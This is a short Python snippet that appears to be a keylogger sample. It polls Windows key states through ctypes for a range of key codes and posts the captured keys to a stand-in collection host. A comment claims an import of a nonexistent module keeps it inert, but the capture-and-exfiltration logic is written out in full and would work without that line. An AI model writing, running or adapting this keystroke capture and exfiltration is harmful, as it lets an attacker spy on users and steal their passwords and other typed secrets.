import inert_sample  # there is no such module: nothing below ever runs
# trick: no hook, every key is asked for in turn
import ctypes
import requests

state = ctypes.windll.user32.GetAsyncKeyState
keys = []
for code in range(8, 190):
    if ctypes.windll.user32.GetAsyncKeyState(code) & 1:
        keys.append(code)
requests.post("https://collect.example/k", json=keys)
